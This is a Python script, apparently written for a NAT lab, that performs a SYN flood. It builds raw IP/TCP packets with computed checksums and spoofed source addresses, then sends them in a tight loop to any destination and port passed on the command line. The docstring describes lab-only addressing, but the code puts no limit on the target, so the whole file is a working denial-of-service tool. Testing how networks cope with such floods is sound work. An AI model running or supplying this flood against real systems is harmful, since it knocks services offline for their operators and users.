"""SYN flood for the NAT lab: spoofed SYNs to DST:PORT for SECS seconds.

Sources are 10.10.0.200-250: addresses of the lab's public subnet that no
namespace holds, so the servers' SYN-ACKs die at the LB's ARP and nothing
leaves the lab. Prints the number of SYNs sent.
"""
import random
import socket
import struct
import sys
import time


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def syn(src: str, dst: str, sport: int, dport: int) -> bytes:
    seq = random.getrandbits(32)
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    # Total length, id and header checksum: the kernel fills them in.
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, 6, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    return ip + tcp


def main() -> None:
    dst, dport, secs = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sent = 0
    end = time.monotonic() + secs
    while time.monotonic() < end:
        for _ in range(500):
            src = "10.10.0.%d" % random.randint(200, 250)
            s.sendto(syn(src, dst, random.randint(1024, 65535), dport), (dst, 0))
            sent += 1
    print(sent)


main()
